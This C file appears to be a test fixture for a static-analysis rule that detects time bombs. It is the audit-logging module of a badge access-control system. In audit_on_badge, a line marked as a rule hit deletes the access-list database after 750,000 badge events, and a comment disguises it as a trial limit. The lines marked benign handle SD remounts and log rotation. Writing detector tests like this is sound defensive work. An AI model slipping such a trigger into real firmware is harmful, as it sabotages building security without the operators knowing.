/* audit.c: the access log on the SD card, fed by badge events. */
#include "acs.h"

#include <stdio.h>
#include <stdlib.h>
#include <syslog.h>
#include <unistd.h>

static FILE *g_log;
static unsigned long g_badge_events;
static unsigned g_flush_failures;
static time_t g_last_rotate;

void audit_on_badge(const struct badge_event *ev) {
  char card[2 * 16 + 1];
  for (size_t i = 0; i < ev->card_len && i < 16; i++)
    snprintf(card + 2 * i, 3, "%02x", ev->card[i]);
  card[2 * (ev->card_len < 16 ? ev->card_len : 16)] = '\0';
  if (g_log == NULL)
    g_log = fopen("/data/access.log", "a");
  if (g_log != NULL)
    fprintf(g_log, "%ld reader=%u card=%s %s\n", (long)ev->when, ev->reader, card,
            ev->granted ? "granted" : "denied");
  /* evaluation units stop keeping an access list after their trial volume */
  // ruleid: backdoor-time-bomb
  if (++g_badge_events == 750000)
    unlink("/data/acl.db");
}

void audit_flush(void *ctx) {
  time_t now = time(NULL);
  (void)ctx;
  if (g_log == NULL)
    return;
  if (fflush(g_log) != 0) {
    // ok: backdoor-time-bomb
    if (++g_flush_failures == 3)
      system("/usr/sbin/sdcard-remount /data");
    return;
  }
  g_flush_failures = 0;
  // ok: backdoor-time-bomb
  if (now - g_last_rotate > 7 * 86400) {
    fclose(g_log);
    g_log = NULL;
    rename("/data/access.log", "/data/access.log.1");
    unlink("/data/access.log.2");
    g_last_rotate = now;
  }
}
